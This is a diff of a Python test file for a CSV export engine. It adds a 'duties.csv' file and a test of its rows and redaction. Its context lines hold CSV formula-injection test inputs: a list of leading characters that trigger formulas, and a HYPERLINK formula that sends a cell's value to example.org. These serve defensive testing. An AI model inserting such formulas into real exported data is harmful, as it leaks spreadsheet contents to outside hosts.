@@ -16,7 +16,7 @@ from tests.engine.export.test_redacted import with_markers
 
 BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
 FORMULA = '=HYPERLINK("http://example.org?"&A1;"Zqxmarker")'
-CSV = ("steps.csv", "answers.csv", "clocks.csv")
+CSV = ("steps.csv", "answers.csv", "clocks.csv", "duties.csv")
 
 typed = st.one_of(
     st.text(), st.builds(str.__add__, st.sampled_from(BEGINNINGS), st.text()), st.text(alphabet="=+-@\t\r\n,\"' 1")
@@ -78,3 +78,18 @@ def test_each_row_is_as_long_as_its_header(long_case: tuple[StoredCase, datetime
         assert {len(row) for row in rows} == {len(header)}
     assert len(cells(pack.files["steps.csv"])) == len(stored.entries) + 1
     assert len(cells(pack.files["clocks.csv"])) == len(stored.clocks) + 1
+
+
+def test_each_delivered_duty_has_its_rows_and_a_redacted_reason_is_only_a_length(
+    long_case: tuple[StoredCase, datetime],
+) -> None:
+    stored, at = long_case
+    delivered = {one.id for one in stored.newest.duties.values() if one.delivered == "now"}
+    for redacted in (False, True):
+        header, *rows = cells(made(stored, at, redacted=redacted).files["duties.csv"])
+        told = [dict(zip(header, row, strict=True)) for row in rows]
+        assert {row["duty"] for row in told} == delivered
+        assert all(row["entry"] == "" for row in told if row["state"] == "did not arise")
+        reasons = {row["reason"] for row in told} - {""}
+        assert reasons
+        assert all(one.startswith("given, ") for one in reasons) is redacted
